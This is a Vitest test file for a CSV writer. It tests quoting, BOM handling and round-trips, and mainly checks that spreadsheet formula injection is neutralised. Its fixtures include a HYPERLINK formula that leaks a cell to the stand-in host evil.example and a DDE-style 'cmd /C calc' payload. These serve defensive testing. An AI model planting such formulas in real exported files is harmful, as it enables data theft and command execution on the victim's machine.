import { describe, expect, it } from 'vitest';
import { readCsv, withExcelBom, writeCsv } from '../../../../src/domain/csv';

const BOM = '\uFEFF';

describe('writeCsv', () => {
  it.each([
    ['plain fields', [['a', 1, -3]], 'a,1,-3\r\n'],
    ['null and undefined as empty fields', [[null, 'x', undefined]], ',x,\r\n'],
    [
      'a comma, a quote or a line break quoted',
      [['a, b', 'say "hi"', 'two\nlines']],
      '"a, b","say ""hi""","two\nlines"\r\n',
    ],
    [
      'rows joined by CRLF',
      [
        ['h1', 'h2'],
        ['v1', 'v2'],
      ],
      'h1,h2\r\nv1,v2\r\n',
    ],
    ['no rows as nothing', [], ''],
  ])('writes %s, after a BOM', (_case, rows, text) => {
    expect(writeCsv(rows)).toBe(`${BOM}${text}`);
  });

  it.each([
    ['a formula as quoted text behind a single quote', '=1+2', `"'=1+2"`],
    [
      'a link formula as text, its quotes doubled',
      '=HYPERLINK("http://evil.example/?x="&A1,"Mariners")',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Mariners"")"`,
    ],
    ['a plus formula as text', '+1+cmd', `"'+1+cmd"`],
    ['a minus formula as text', "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['an at-sign function as text', '@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['a leading tab as text', '\t=1+2', `"'\t=1+2"`],
    ['a leading carriage return as text', '\r=1+2', `"'\r=1+2"`],
    ['a lone sign as text', '-', `"'-"`],
    ['a negative figure as a number', '-3', '-3'],
    ['a signed figure as a number', '+2', '+2'],
    ['a decimal figure as a number', '-4.5', '-4.5'],
    ['a decimal-comma figure as a number, quoted for its comma', '-4,5', '"-4,5"'],
    ['a number cell as a number', -3, '-3'],
    ['a sign inside a name as it is', 'Sharks-Mariners = 3', 'Sharks-Mariners = 3'],
    ['a percentage as it is', '42.9%', '42.9%'],
  ])('writes %s (a spreadsheet runs no formula from a cell)', (_case, cell, field) => {
    expect(writeCsv([[cell]])).toBe(`${BOM}${field}\r\n`);
  });

  it('writes what readCsv reads back', () => {
    const rows = [
      ['Név', 'Megjegyzés'],
      ['Kovács; Ágnes', 'say "hi", twice'],
      ['Őri', ''],
    ];
    expect(readCsv(writeCsv(rows)).rows.map((row) => row.cells)).toEqual(rows);
  });
});

describe('withExcelBom', () => {
  it.each([
    ['a,b\r\n', `${BOM}a,b\r\n`],
    [`${BOM}a,b\r\n`, `${BOM}a,b\r\n`],
  ])('gives %j exactly one BOM', (csv, expected) => {
    expect(withExcelBom(csv)).toBe(expected);
  });
});
